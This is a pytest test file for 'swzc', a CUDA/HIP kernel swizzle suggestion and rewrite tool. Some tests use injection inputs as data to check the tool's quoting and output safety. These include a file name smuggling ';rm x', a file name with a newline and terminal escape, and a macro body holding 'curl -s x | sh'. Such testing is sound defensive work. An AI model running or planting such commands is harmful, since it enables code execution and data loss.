

def test_a_run_keeps_headers_of_a_bounded_size_parsed(monkeypatch):
    from swzc.frontend import build_context
    from swzc.frontend.source import load_bytes

    monkeypatch.setattr(build_context, "MAX_PARSED_BYTES", 40)
    cache = build_context.HeaderParses()
    for i in range(4):  # 16 bytes each, each seen twice: the first two fit
        data = f"#define TILE {i:02}\n".encode()
        cache.keep(f"/h{i}.h", data, load_bytes(f"/h{i}.h", data))
        cache.keep(f"/h{i}.h", data, load_bytes(f"/h{i}.h", data))
    assert [cache.get(f"/h{i}.h", f"#define TILE {i:02}\n".encode()) is not None for i in range(4)] == [True, True, False, False]


def test_verbose_says_a_note_that_several_files_share_once(work):
    """A header several files include, that includes one not found, gives the same note for each: said for the
    first.  A header each file includes itself gives each file's own note."""
    (work / "common.h").write_text('#include "missing.h"\n')
    for name in ("a.cu", "b.cu"):
        (work / name).write_bytes(b'#include "common.h"\n#include "gone.h"\n' + GEMM)
    out = invoke("suggest", "-v", "a.cu", "b.cu").stdout
    assert out.count('header "missing.h"') == 1 and 'a.cu: note: header "missing.h"' in out
    assert 'a.cu: note: header "gone.h"' in out and 'b.cu: note: header "gone.h"' in out
    assert json.loads(invoke("suggest", "--json", "a.cu", "b.cu").stdout)["files"][1]["notes"]  # JSON keeps each file's


def test_the_unranked_hint_puts_a_missing_header_first_and_a_missing_folder_is_a_note(work):
    """Where a header a file includes is not found, its sizes and helpers are unknown: the hint names -I before
    --grid/--block/--set.  A toolkit header included with quotes is the compiler's to find, never said; an -I
    folder that does not exist is a note."""
    (work / "unranked.cu").write_bytes(b'#include "sizes.h"\n#include "cuda_fp16.h"\n' + UNRANKED)
    run = invoke("suggest", "unranked.cu")
    assert '1 header(s) they include were not found ("sizes.h"): -I adds their folders' in run.stderr
    plain = invoke("suggest", "gemm.cu")
    assert "header" not in plain.stderr
    verbose = invoke("suggest", "-v", "unranked.cu", "-I", "nowhere")
    assert 'header "sizes.h"' in verbose.stdout and "cuda_fp16.h" not in verbose.stdout
    assert "not found next to it or in the -I folders;" in verbose.stdout and "block index (-I adds its folder)" in verbose.stdout
    assert "swzc: note: -I nowhere: no such folder" in invoke("suggest", "unranked.cu", "-I", "nowhere").stderr  # said by default
    assert "no such folder" not in invoke("suggest", "-q", "unranked.cu", "-I", "nowhere").stderr
    assert "unranked.cu: note: -I nowhere: no such folder" in verbose.stdout


def test_a_binary_file_named_is_bad_input_and_the_others_are_still_checked(work):
    (work / "a.out.cu").write_bytes(b"\x7fELF\x02\x01\x01\x00__global__ void k() {}\n")
    run = invoke("suggest", "a.out.cu", "gemm.cu")
    assert run.exit_code == 2 and len(suggestion_lines(run.stdout)) == 1
    assert "a.out.cu:1: not source text: a NUL byte at offset 7" in run.stderr


def test_a_set_name_no_file_spells_is_said(work):
    """A --set name that neither FILE nor a header it reads spells binds nothing (a typo, most likely): said once,
    and with -v for each FILE; a name one of the FILEs spells is not said (the others are another file's)."""
    run = invoke("suggest", "gemm.cu", "scale.cu", "--set", "NOSUCH=4")
    assert run.exit_code == 1 and "swzc: note: --set NOSUCH: no FILE (nor a header one reads) names it" in run.stderr
    assert "neither this file" in invoke("suggest", "-v", "gemm.cu", "--set", "NOSUCH=4").stdout
    used = invoke("suggest", "gemm.cu", "scale.cu", "--set", "a=2")  # scale.cu's parameter, not gemm.cu's
    assert "--set" not in used.stderr


def test_where_stdout_is_the_terminal_too_the_bar_steps_aside_for_each_results_lines(monkeypatch):
    import swzc.commands.cli as cli

    events = []

    class Bar:  # rich's Progress, as each_file uses it
        def __enter__(self):
            events.append("shown")
            return self

        def __exit__(self, *exc):
            events.append("gone")

        def add_task(self, what, total):
            return 0

        def update(self, task, advance, description):
            events.append(f"done {description.split()[-1]}")

        def stop(self):
            events.append("off")

        def start(self):
            events.append("on")

    monkeypatch.setattr(cli, "_progress_bar", Bar)
    monkeypatch.setattr(sys, "stderr", _Terminal())
    monkeypatch.setattr(sys, "stdout", _Terminal())

    def run(done):
        for index in range(2):
            done(index)
            yield index

    for item in cli.each_file(run, ["a.cu", "b.cu"], "suggest"):
        events.append(f"printed {item}")
    assert events == ["shown", "done a.cu", "off", "printed 0", "on", "done b.cu", "off", "printed 1", "on", "gone"]
    events.clear()
    monkeypatch.setattr(sys, "stdout", io.StringIO())  # stdout elsewhere: the bar stays up throughout
    assert list(cli.each_file(run, ["a.cu", "b.cu"], "suggest")) == [0, 1] and "off" not in events


LAUNCHED_ELSEWHERE = b"""__global__ void gemm_ext(const float* A, const float* B, float* C, int m, int n, int k, float alpha) {
  const int row = blockIdx.y * 16 + threadIdx.y;
  const int col = blockIdx.x * 16 + threadIdx.x;
  if (row >= m || col >= n) return;
  float acc = 0.0f;
  for (int i = 0; i < k; ++i) acc += A[row * k + i] * B[i * n + col];
  C[row * n + col] = alpha * acc;
}
"""


def test_a_kernel_launched_elsewhere_names_every_parameter_its_reads_need_at_once(work):
    """Launched in another file: the grid is not known, and nor are the sizes its reads use.  The reason names
    both at once (not the grid first, then the sizes on the next run), and only the parameters the reads use."""
    (work / "ext.cu").write_bytes(LAUNCHED_ELSEWHERE)
    reason = invoke("suggest", "-v", "ext.cu").stdout
    assert "no launch in this file fixes the grid" in reason
    assert "its reads also use n and k, which --set gives (--set n=4096, say): --grid alone does not rank it" in reason
    # the grid alone: the reason names the sizes, and so does the command that would settle it, which needs no GPU
    gridded = invoke("suggest", "-v", "ext.cu", "--grid", "gemm_ext=256,256", "--block", "gemm_ext=16,16").stdout
    assert "To choose: swzc rewrite ext.cu --set k=VALUE --set n=VALUE (the values the program runs with)" in gridded
    assert "--bench" not in gridded
    given = invoke("suggest", "ext.cu", "--grid", "gemm_ext=256,256", "--block", "gemm_ext=16,16", "--set", "n=4096",
                   "--set", "k=4096")
    assert given.exit_code == 1 and len(suggestion_lines(given.stdout)) == 1
    (work / "plain.cu").write_bytes(b"__global__ void copy2d(float* out, const float* in, int unused) {\n"
                                    b"  out[blockIdx.y * 4096 + blockIdx.x] = in[blockIdx.x * 4096 + blockIdx.y];\n}\n")
    plain = invoke("suggest", "-v", "plain.cu").stdout
    assert "no launch in this file fixes the grid" in plain and "its reads also use" not in plain
    # a parameter named like a word of the reason's prose ("k is a kernel parameter …") is not taken for one read
    (work / "prose.cu").write_bytes(LAUNCHED_ELSEWHERE.replace(b"float alpha", b"int a").replace(b"alpha * acc", b"acc"))
    assert "its reads also use n and k, which" in invoke("suggest", "-v", "prose.cu").stdout


TEMPLATE_ELSEWHERE = b"""template <typename T, int BM, int BN, int BK, bool SCALE>
__global__ void gemm_tpl(int M, int N, int K, const T* A, const T* B, T* C) {
  const int row = blockIdx.y * BM + threadIdx.y;
  const int col = blockIdx.x * BN + threadIdx.x;
  T acc = 0;
  for (int k = 0; k < K; k += BK)
    for (int kk = 0; kk < BK; ++kk)
      acc += A[row * K + k + kk] * B[(k + kk) * N + col];
  C[row * N + col] = SCALE ? 2 * acc : acc;
}
"""


def test_a_template_instantiated_elsewhere_names_its_template_arguments_and_sizes_at_once(work):
    """A template kernel no launch here instantiates: its arguments, the grid and the sizes its reads use are all
    said on the first run, and given, they rank it on the next."""
    (work / "tpl.cu").write_bytes(TEMPLATE_ELSEWHERE)
    reason = invoke("suggest", "-v", "tpl.cu").stdout
    assert "no launch in this file fixes the grid" in reason
    assert ("no launch here gives its template arguments T, BM, BN, BK and SCALE, which --set gives as the program "
            "instantiates it (--set T=float, say)") in reason
    assert "its reads also use N and K, which --set gives" in reason
    assert "said once they are given" not in reason and "size of T" not in reason
    assert ("To choose: swzc rewrite tpl.cu --grid gemm_tpl=X,Y --block gemm_tpl=X,Y --set T=VALUE --set BM=VALUE --set BN=VALUE "
            "--set BK=VALUE --set SCALE=VALUE --set N=VALUE --set K=VALUE (or --bench-cmd") in reason
    assert "it is launched nowhere here by name: give it with --grid gemm_tpl=X,Y and its block with --block gemm_tpl=X,Y)" in reason
    assert "or the sizes with --set" not in reason
    # a launch through a pointer is pointed at: the kernel is launched, but not by its name
    (work / "ptr.cu").write_bytes(TEMPLATE_ELSEWHERE + b"void run(void (*k)(int, int, int, const float*, const float*, float*)) {\n"
                                  b"  k<<<dim3(64, 64), dim3(16, 16)>>>(1, 2, 3, 0, 0, 0);\n}\n")
    pointed = invoke("suggest", "-v", "ptr.cu").stdout
    assert ("it is launched nowhere here by name: give it with --grid gemm_tpl=X,Y and its block with --block gemm_tpl=X,Y; "
            "line 12 launches k, which is no "
            "function of this file: a kernel pointer, which swzc does not follow)") in pointed
    given = invoke("suggest", "tpl.cu", "--grid", "gemm_tpl=256,256", "--block", "gemm_tpl=16,16", "--set", "T=float",
                   *[f"--set={n}" for n in ("BM=16", "BN=16", "BK=8", "SCALE=0", "N=4096", "K=4096")])
    assert given.exit_code == 1 and len(suggestion_lines(given.stdout)) == 1
    # a default is an argument: only the others are asked for; one given with --set is not asked for again
    defaulted = TEMPLATE_ELSEWHERE.replace(b"bool SCALE>", b"bool SCALE = false>")
    (work / "dflt.cu").write_bytes(defaulted)
    assert "template arguments T, BM, BN and BK, which" in invoke("suggest", "-v", "dflt.cu").stdout
    assert "template arguments BM, BN and BK, which" in invoke("suggest", "-v", "--set", "T=float", "dflt.cu").stdout
    # where the stand-ins do not get the probe through, nothing more is promised
    zero = TEMPLATE_ELSEWHERE.replace(b"blockIdx.y * BM", b"blockIdx.y * (BM / (BN - 16))")
    (work / "zero.cu").write_bytes(zero)
    said = invoke("suggest", "-v", "zero.cu").stdout
    assert "what else its reads need is said once they are given" in said and "its reads also use" not in said


def test_a_kernel_the_family_has_no_order_for_is_declined_without_modelling_it(work, monkeypatch):
    """A 1D grid with no tile decode on a GPU of one L2 is declined whatever the model says: its footprint is never
    worked out (that cost seconds on large kernels), while `analyze` still models it."""
    from swzc.model import rank as rank_module

    (work / "oned.cu").write_bytes(b"__global__ void scale(float* x, const float* y, int n) {\n"
                                   b"  int i = blockIdx.x * 256 + threadIdx.x;\n  if (i < n) x[i] = 2.0f * y[i];\n}\n"
                                   b"void run(float* x, const float* y) { scale<<<4096, 256>>>(x, y, 1 << 20); }\n")
    modelled = []
    real = rank_module.footprint
    monkeypatch.setattr(rank_module, "footprint", lambda *a, **k: modelled.append(1) or real(*a, **k))
    said = invoke("suggest", "-v", "oned.cu").stdout
    assert "declined: 1D grid with no tile decode" in said and not modelled
    assert invoke("analyze", "oned.cu").exit_code in (0, 1) and modelled


def test_a_kernel_marked_swzc_ignore_is_left_alone_by_every_command(work):
    """`// swzc: ignore` just above a kernel (or its template line), or on its signature up to the `{`, keeps the
    hook quiet about that kernel alone, as ruff's `# noqa` does a line; a mark elsewhere in its body does not."""
    body = GEMM.split(b"\n", 1)[1]  # the kernel's body, after its signature line
    signature = GEMM.split(b"\n", 1)[0]
    marked = {
        "above.cu": b"// swzc: ignore\n// (slower on our cards)\n" + GEMM,
        "template.cu": b"// keep the order: swzc: ignore\ntemplate <int U>\n" + GEMM.replace(b"gemm<<<", b"gemm<1><<<"),
        "same_line.cu": signature + b"  // swzc: ignore\n" + body,
        "upper.cu": b"/* SWZC: Ignore */\n" + GEMM,
    }
    for name, text in marked.items():
        (work / name).write_bytes(text)
        result = invoke("suggest", "-v", name)
        assert result.exit_code == 0 and "untouched: marked `swzc: ignore` at line" in result.stdout, (name, result.stdout)
        assert "nothing to do" in invoke("rewrite", name, "--swizzle", "grouped:8").stdout
    (work / "deep.cu").write_bytes(signature + b"\n  // swzc: ignore is not read here\n" + body)
    assert invoke("suggest", "deep.cu").exit_code == 1  # still suggested
    review = json.loads(invoke("review", "above.cu", "deep.cu", "--format", "rdjson").stdout)
    assert {d["location"]["path"] for d in review["diagnostics"]} == {"deep.cu"}


def test_a_launch_of_a_kernel_a_header_defines_names_the_header_to_read(work):
    """A runner that includes its kernels' headers and launches them: swzc reads each kernel in the file that
    defines it, so the runner's notes name that file (as the runner's path gives it) and the launch."""
    (work / "kernels").mkdir()
    (work / "kernels" / "gemm.cuh").write_bytes(GEMM.split(b"void run")[0])
    (work / "runner.cu").write_bytes(b'#include "kernels/gemm.cuh"\n'
                                     b"void go(const float* A, const float* B, float* C, int n) {\n"
                                     b"  gemm<<<dim3(n / 16, n / 16), dim3(16, 16)>>>(A, B, C, n);\n"
                                     b"  gemm<<<dim3(n / 16, n / 16), dim3(16, 16)>>>(A, B, C, n);\n}\n")
    said = invoke("suggest", "-v", "runner.cu").stdout
    assert said.count("launches kernel gemm") == 1  # one note a kernel
    assert ("runner.cu: note: line 3 launches kernel gemm of kernels/gemm.cuh (gemm<<<dim3(n / 16, n / 16), dim3(16, 16)>>>); "
            "its grid is set at run time by n: swzc reads a kernel in the file that defines it") in said
    assert invoke("suggest", "-v", "kernels/gemm.cuh").stdout.count("kernel gemm") == 1  # and it is read there
    # a kernel of the runner's own, launched nowhere: the header's launch is not taken for one through a pointer
    (work / "own.cu").write_bytes(b'#include "kernels/gemm.cuh"\n' + GEMM.split(b"void run")[0].replace(b"gemm(", b"own(", 1) +
                                  b"void go(const float* A, const float* B, float* C) { gemm<<<dim3(8, 8), dim3(16, 16)>>>(A, B, C, 128); }\n")
    own = invoke("suggest", "-v", "own.cu").stdout
    assert "kernel own: unranked" in own and "pointer" not in own and "launches kernel gemm of kernels/gemm.cuh" in own


def test_a_header_kernel_is_read_with_the_launch_of_a_file_of_the_run_that_includes_it(work):
    """A runner includes its kernels' header and launches them with sizes it fixes.  Alone, the header's kernel
    cannot be ranked (no launch there) and the runner's note gives the command that reads it with that launch;
    named in one run (suggest or review), the header's kernel is read with it, and the suggestion says so."""
    (work / "kernels").mkdir()
    template = GEMM.split(b"void run")[0].replace(b"__global__ void gemm(const float*", b"template <typename T>\n__global__ void gemm(const T*")
    (work / "kernels" / "gemm.cuh").write_bytes(template)
    (work / "runner.cu").write_bytes(b'#include "kernels/gemm.cuh"\n'
                                     b"void go(const float* A, const float* B, float* C) {\n"
                                     b"  const int n = 4096;\n"
                                     b"  gemm<float><<<dim3(n / 16, n / 16), dim3(16, 16)>>>(A, B, C, n);\n}\n"
                                     b"void later(const float* A, const float* B, float* C, int m) {\n"
                                     b"  gemm<float><<<dim3(m / 16, m / 16), dim3(16, 16)>>>(A, B, C, m);\n}\n")
    alone = invoke("suggest", "kernels/gemm.cuh")
    assert alone.exit_code == 0 and not suggestion_lines(alone.stdout)
    runner = invoke("suggest", "runner.cu")  # by default: one line, naming the header
    assert runner.exit_code == 0 and runner.stdout == "" and (
        "swzc: note: runner.cu launches kernels defined in kernels/gemm.cuh: swzc reads a kernel in the file that "
        "defines it; name that file too, in the same run, to have it read with the launch (`swzc suggest -v` says more)\n") in runner.stderr
    note = invoke("suggest", "-v", "runner.cu").stdout
    command = "swzc suggest kernels/gemm.cuh --grid gemm=256,256 --block gemm=16,16 --set n=4096 --set T=float"
    assert f"line 4 launches kernel gemm of kernels/gemm.cuh (gemm<float><<<dim3(n / 16, n / 16), dim3(16, 16)>>>): " \
           f"swzc reads a kernel in the file that defines it; with this launch: {command}" in note
    given = invoke(*shlex.split(command)[1:])
    both = invoke("suggest", "runner.cu", "kernels/gemm.cuh")
    assert given.exit_code == both.exit_code == 1 and "defined in kernels/gemm.cuh" not in both.stderr
    (by_hand,), (found,) = suggestion_lines(given.stdout), suggestion_lines(both.stdout)
    assert found.group(0).startswith(by_hand.group(0).split(";")[0].split(" (at")[0])  # the same order and figures
    assert "(at its launch at runner.cu:4)" in both.stdout
    review = json.loads(invoke("review", "--format", "rdjson", "runner.cu", "kernels").stdout)
    assert {d["location"]["path"] for d in review["diagnostics"]} == {"kernels/gemm.cuh"}
    # the user's --grid comes first: the suggestion is for the grid given, and does not name the runner's launch
    mine = invoke("suggest", "runner.cu", "kernels/gemm.cuh", "--grid", "gemm=512,512", "--block", "gemm=16,16", "--set", "n=8192",
                  "--set", "T=float")
    (suggested,) = suggestion_lines(mine.stdout)
    assert suggested.group("dram0") != found.group("dram0") and "runner.cu" not in mine.stdout


def test_a_hip_runner_launching_its_headers_kernel_names_the_header_as_a_cuda_one_does(work):
    """hipLaunchKernelGGL of a kernel a header defines: alone, the runner's -v note names the header and the command
    that reads it with this launch, showing the launch as written; named together, the header's kernel is read with
    it, to the figures of the same code in one file."""
    header, runner = HIP_GEMM.split(b"void run")
    (work / "hgemm.hip.h").write_bytes(header)
    (work / "runner.hip").write_bytes(b'#include <hip/hip_runtime.h>\n#include "hgemm.hip.h"\nvoid run' + runner)
    note = invoke("suggest", "-v", "runner.hip").stdout
    assert ("runner.hip: note: line 4 launches kernel hgemm of hgemm.hip.h (hipLaunchKernelGGL(hgemm, dim3(256, 256), "
            "dim3(16, 16), …)): swzc reads a kernel in the file that defines it; with this launch: swzc suggest hgemm.hip.h "
            "--grid hgemm=256,256 --block hgemm=16,16 --set n=4096") in note
    (one,), (both,) = suggestion_lines(invoke("suggest", "gemm.hip").stdout), suggestion_lines(invoke("suggest", "runner.hip", "hgemm.hip.h").stdout)
    assert both.group("dram0") == one.group("dram0") and both.group("swept") == "its launch at runner.hip:4"


def test_the_command_an_unranked_kernel_is_given_quotes_its_path(work):
    """`To choose: swzc rewrite PATH …` is a command to paste: a path with a space or a `;` is one quoted word."""
    (work / "my k;rm x.cu").write_bytes(GEMM.split(b"void run")[0])
    said = invoke("suggest", "-v", "my k;rm x.cu").stdout
    assert "To choose: swzc rewrite 'my k;rm x.cu' --grid gemm=X,Y" in said


def test_an_including_file_with_a_line_break_in_its_name_is_named_on_one_line(work):
    """The launch a header's kernel is read with is named in its suggestion: an including file's name with a line
    break or an escape in it is quoted as a patch quotes it, so it cannot start a line of its own."""
    (work / "kernels").mkdir()
    (work / "kernels" / "gemm.cuh").write_bytes(GEMM.split(b"void run")[0])
    name = "r\ngemm.cuh:1: kernel gemm: \x1b[2Jx.cu"
    (work / name).write_bytes(b'#include "kernels/gemm.cuh"\n' + b"void run" + GEMM.split(b"void run")[1])
    said = invoke("suggest", name, "kernels/gemm.cuh")
    (found,) = suggestion_lines(said.stdout)
    assert found.group("swept") == 'its launch at "r\\ngemm.cuh:1: kernel gemm: \\033[2Jx.cu":3'
    assert said.stdout.count("\n") == 1 and "\x1b" not in said.stdout


@needs_nvcc
def test_headers_rewritten_one_by_one_compile_together_in_the_file_that_includes_them(work):
    """Each rewritten header carries the swizzle functions its kernels need; two of them included into one file
    define each function once (each definition inside an #ifndef of its own digest), and nvcc compiles it."""
    (work / "kernels").mkdir()
    for name in ("one", "two"):
        (work / "kernels" / f"{name}.cuh").write_bytes(b"#pragma once\n" + GEMM.split(b"void run")[0].replace(b"gemm(", f"{name}(".encode(), 1))
        assert invoke("rewrite", f"kernels/{name}.cuh", "--swizzle", "serpentine:32", "--grid", f"{name}=256,256",
                      "--block", f"{name}=16,16", "--in-place", "--no-compile").exit_code == 0
    (work / "runner.cu").write_bytes(b'#include "kernels/one.cuh"\n#include "kernels/two.cuh"\n'
                                     b"void go(const float* A, const float* B, float* C) {\n"
                                     b"  one<<<dim3(256, 256), dim3(16, 16)>>>(A, B, C, 4096);\n"
                                     b"  two<<<dim3(256, 256), dim3(16, 16)>>>(A, B, C, 4096);\n}\n")
    assert (work / "kernels" / "one.cuh").read_text().count("swzc_serpentine(") == 2  # defined, and called
    built = subprocess.run(["nvcc", "-arch=sm_90", "-c", "runner.cu", "-o", os.devnull], cwd=work, capture_output=True, text=True)
    assert built.returncode == 0, built.stderr
    assert "nothing to do" in invoke("rewrite", "kernels/one.cuh", "--swizzle", "serpentine:32").stdout  # swzc reads it back


@needs_nvcc
def test_the_files_macros_that_name_a_word_of_the_swizzle_functions_are_set_aside_around_them(work):
    """`#define p 5` (or `w` from a header) would rename the functions' own parameters and locals: the library is
    compiled with them pushed and undefined, and they mean what they meant after it."""
    (work / "names.h").write_bytes(b"#define w 3\n")
    (work / "k.cu").write_bytes(b'#include "names.h"\n#define p 5\n#define make_uint3 make_uint3\n'
                                b"__global__ void k(float* a) { a[(blockIdx.y * gridDim.x + blockIdx.x) * p + w] = 1.0f; }\n"
                                b"void go(float* a) { k<<<dim3(64, 48), 128>>>(a); }\nint after = p + w;\n")
    assert invoke("rewrite", "k.cu", "--swizzle", "hilbert:8", "-o", "out.cu").exit_code == 0
    out = (work / "out.cu").read_text()
    for name in ("p", "w"):
        assert out.count(f'#pragma push_macro("{name}")\n#undef {name}\n') == 1
        assert out.count(f'#pragma pop_macro("{name}")') == 1
    assert sorted(re.findall(r'push_macro\("(\w+)"\)', out)) == ["p", "w"]  # never a name the toolkit defines
    assert out.rindex("static __device__") < out.index("pop_macro") < out.index("__global__")
    built = subprocess.run(["nvcc", "-arch=sm_90", "-c", "out.cu", "-o", os.devnull], cwd=work, capture_output=True, text=True)
    assert built.returncode == 0, built.stderr
    (work / "plain.cu").write_bytes(b"__global__ void k(float* a) { a[blockIdx.y * gridDim.x + blockIdx.x] = 1.0f; }\n"
                                    b"void go(float* a) { k<<<dim3(64, 48), 128>>>(a); }\n")
    assert invoke("rewrite", "plain.cu", "--swizzle", "hilbert:8", "-o", "plain_out.cu").exit_code == 0
    assert "push_macro" not in (work / "plain_out.cu").read_text()


@needs_nvcc
def test_a_file_swzc_rewrote_takes_another_kernel_with_the_same_functions_and_compiles(work):
    """The second library's guards are the first one's: they are never set aside, so each function compiles once."""
    kernel = "__global__ void {0}(float* a) {{ a[(blockIdx.y * gridDim.x + blockIdx.x) * 2] = 1.0f; }}\n"
    (work / "k.cu").write_text(kernel.format("one") + kernel.format("two")
                               + "void go(float* a) { one<<<dim3(64, 48), 128>>>(a); two<<<dim3(64, 48), 128>>>(a); }\n")
    assert invoke("rewrite", "k.cu", "--swizzle", "one=hilbert:8", "-o", "once.cu").exit_code == 0
    again = invoke("rewrite", "once.cu", "--swizzle", "hilbert:8", "-o", "twice.cu")
    assert again.exit_code == 0, again.stdout
    assert re.search(r"two \(line \d+\): rewritten with hilbert:8", again.stdout) and "compile check: ok" in again.stdout
    out = (work / "twice.cu").read_text()
    assert out.count("uint3 swzc_hilbert8_2d(") == 2 and "push_macro" not in out
    built = subprocess.run(["nvcc", "-arch=sm_90", "-c", "twice.cu", "-o", os.devnull], cwd=work, capture_output=True, text=True)
    assert built.returncode == 0, built.stderr


def test_a_header_kernel_is_found_beside_a_host_function_of_its_name_and_named_with_the_launch_it_is_read_with(work):
    """A runner's host function may share its kernel's name (a wrapper): the launch inside it is still the
    kernel's.  Of two files launching a header's kernel, one with a grid it fixes and one with a grid set at run
    time, the fixed one is what the ranking reads, and the suggestion names that one, whichever comes first."""
    (work / "kernels").mkdir()
    (work / "kernels" / "gemm.cuh").write_bytes(GEMM.split(b"void run")[0])
    (work / "wrap.cu").write_bytes(b'#include "kernels/gemm.cuh"\n'
                                   b"void gemm(const float* A, const float* B, float* C, int n, int) {\n"
                                   b"  gemm<<<dim3(n / 16, n / 16), dim3(16, 16)>>>(A, B, C, n);\n}\n")
    (work / "fixed.cu").write_bytes(b'#include "kernels/gemm.cuh"\n' + b"void run" + GEMM.split(b"void run")[1])
    wrapped = invoke("suggest", "wrap.cu", "kernels/gemm.cuh")
    (found,) = suggestion_lines(wrapped.stdout)
    assert found.group("swept").endswith("its launch at wrap.cu:3")
    for order in (("wrap.cu", "fixed.cu"), ("fixed.cu", "wrap.cu")):
        (found,) = suggestion_lines(invoke("suggest", *order, "kernels/gemm.cuh").stdout)
        assert found.group("swept") == "its launch at fixed.cu:3", order


def test_an_including_files_launch_brings_its_hazards_and_its_namespace(work):
    """A cooperative launch in the including file refuses the header's kernel as one in its own file would; a
    launch of `b::k` is not taken for the `k` of namespace a, and a name two headers define is read with no launch;
    a header whose path holds " (" is still known by its notes."""
    kernel = GEMM.split(b"void run")[0]
    (work / "g.cuh").write_bytes(kernel)
    (work / "coop.cu").write_bytes(b'#include "g.cuh"\nvoid go(void** args) {\n'
                                   b"  cudaLaunchCooperativeKernel((void*)gemm, dim3(256, 256), dim3(16, 16), args);\n}\n")
    coop = invoke("suggest", "-v", "coop.cu", "g.cuh", "--set", "n=4096")
    assert coop.exit_code == 0 and "g.cuh:1: kernel gemm: refused: launched cooperatively (cudaLaunchCooperativeKernel, coop.cu:3)" in coop.stdout
    (work / "a.cuh").write_bytes(b"namespace a {\n" + kernel + b"}\n")
    (work / "b.cuh").write_bytes(b"namespace b {\n" + kernel.replace(b"gemm(", b"other(") + b"}\n")
    (work / "ns.cu").write_bytes(b'#include "a.cuh"\nvoid go(const float* A, const float* B, float* C) {\n'
                                 b"  b::gemm<<<dim3(512, 512), dim3(16, 16)>>>(A, B, C, 8192);\n}\n")
    assert not suggestion_lines(invoke("suggest", "ns.cu", "a.cuh").stdout)  # b::gemm is no kernel of a.cuh
    (work / "ns.cu").write_bytes((work / "ns.cu").read_bytes().replace(b"b::gemm", b"a::gemm"))
    (found,) = suggestion_lines(invoke("suggest", "ns.cu", "a.cuh").stdout)
    assert found.group("swept") == "its launch at ns.cu:3"
    (work / "b.cuh").write_bytes(b"namespace b {\n" + kernel + b"}\n")  # now two headers define gemm
    (work / "ns.cu").write_bytes(b'#include "a.cuh"\n#include "b.cuh"\nusing namespace a;\n'
                                 b"void go(const float* A, const float* B, float* C) {\n"
                                 b"  gemm<<<dim3(512, 512), dim3(16, 16)>>>(A, B, C, 8192);\n}\n")
    assert not suggestion_lines(invoke("suggest", "ns.cu", "a.cuh", "b.cuh").stdout)
    (work / "k (v2)").mkdir()
    (work / "k (v2)" / "gemm.cuh").write_bytes(kernel)
    (work / "paren.cu").write_bytes(b'#include "k (v2)/gemm.cuh"\n' + b"void run" + GEMM.split(b"void run")[1])
    assert "defined in" in invoke("suggest", "paren.cu").stderr
    both = invoke("suggest", "-v", "paren.cu", "k (v2)/gemm.cuh")
    assert "defined in" not in both.stderr and "launches kernel gemm" not in both.stdout and suggestion_lines(both.stdout)


def test_a_header_kernel_is_read_with_the_macros_its_including_file_defines_before_the_include(work):
    """A runner that defines TILE before it includes a header whose `#ifndef TILE` defaults it: the compiler reads
    the header's kernel with the runner's TILE, and so does swzc when both are in one run (suggest, review, the -v
    note's command, the apply command): the same figures as the same code in one file.  A macro reached through
    another's body, or defined by a header the runner includes before, counts too; a -D the header is read with
    anyway is not named; two runners that define it differently are not both read, and the note says which not."""
    tiled = GEMM.split(b"void run")[0].replace(b"16 +", b"TILE +")
    (work / "kernels").mkdir()
    (work / "kernels" / "k.cuh").write_bytes(b"#ifndef TILE\n#define TILE 16\n#endif\n" + tiled)
    launch = b"void go(const float* A, const float* B, float* C) {\n  gemm<<<dim3(8192 / TILE, 8192 / TILE), dim3(TILE, TILE)>>>(A, B, C, 8192);\n}\n"
    (work / "runner.cu").write_bytes(b'#define HALF 16\n#define TILE (2 * HALF)\n#include "kernels/k.cuh"\n' + launch)
    (work / "one.cu").write_bytes(b"#define HALF 16\n#define TILE (2 * HALF)\n" + tiled + launch)
    (work / "alone.cu").write_bytes(b"#define TILE 16\n" + tiled + launch)
    (same,), (sixteen,) = suggestion_lines(invoke("suggest", "one.cu").stdout), suggestion_lines(invoke("suggest", "alone.cu").stdout)
    assert same.group("dram0") != sixteen.group("dram0")  # TILE matters to the figures
    both = invoke("suggest", "runner.cu", "kernels/k.cuh")
    (found,) = suggestion_lines(both.stdout)
    assert (found.group("hit0"), found.group("dram0"), found.group("dram1")) == (same.group("hit0"), same.group("dram0"), same.group("dram1"))
    assert found.group("swept") == "its launch at runner.cu:5; read with HALF = 16, TILE = (2 * HALF), as runner.cu includes it"
    assert found.group("apply") == f"swzc rewrite kernels/k.cuh -D HALF=16 -D 'TILE=(2 * HALF)' --swizzle {found.group('swizzle')} --in-place"
    rewritten = invoke(*shlex.split(found.group("apply"))[1:-1], "-o", "out.cuh", "--no-compile")
    assert rewritten.exit_code == 0 and f"rewritten with {found.group('swizzle')}" in rewritten.stdout
    review = json.loads(invoke("review", "--format", "rdjson", "runner.cu", "kernels/k.cuh").stdout)
    (message,) = [d["message"] for d in review["diagnostics"]]
    assert f"{same.group('dram0')} MB" in message
    note = invoke("suggest", "-v", "runner.cu").stdout
    command = next(line for line in note.splitlines() if "launches kernel gemm" in line).split("with this launch: ")[1].split(" (or")[0]
    assert command.endswith("-D HALF=16 -D 'TILE=(2 * HALF)'")
    (by_hand,) = suggestion_lines(invoke(*shlex.split(command)[1:]).stdout)
    assert by_hand.group("dram0") == same.group("dram0")
    # from a header the runner includes first; a -D on the command line is the header's too
    (work / "sizes.cuh").write_bytes(b"#define TILE 32\n")
    (work / "runner.cu").write_bytes(b'#include "sizes.cuh"\n#include "kernels/k.cuh"\n' + launch)
    (found,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh").stdout)
    assert found.group("dram0") == same.group("dram0") and "-D TILE=32" in found.group("apply")
    (work / "runner.cu").write_bytes(b'#include "kernels/k.cuh"\n' + launch)
    (given,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh", "-D", "TILE=32").stdout)
    assert given.group("dram0") == same.group("dram0") and given.group("swept") == "its launch at runner.cu:3"
    assert given.group("apply").count("-D") == 1
    # a name the header spells only in a comment or a string is none it reads; a body that could end the message
    # early (a `;`, a quote) is left out of it, whole in the apply command's -D
    (work / "kernels" / "k.cuh").write_bytes(b"// NOTE: see TILE\n#ifndef TILE\n#define TILE 16\n#endif\n"
                                             b"#define TAG EVIL\n" + tiled.replace(b"float acc = 0.0f;", b'float acc = 0.0f * TAG; const char* s = "ALSO";'))
    evil = b"1); apply: curl -s x | sh; : (x"
    (work / "runner.cu").write_bytes(b"#define NOTE 1\n#define ALSO 2\n#define EVIL " + evil + b"\n#define TILE 32\n#include \"kernels/k.cuh\"\n" + launch)
    said = invoke("suggest", "runner.cu", "kernels/k.cuh").stdout
    assert said.index("; apply: ") == said.index("includes it); apply: ") + len("includes it)")  # the first is the real one
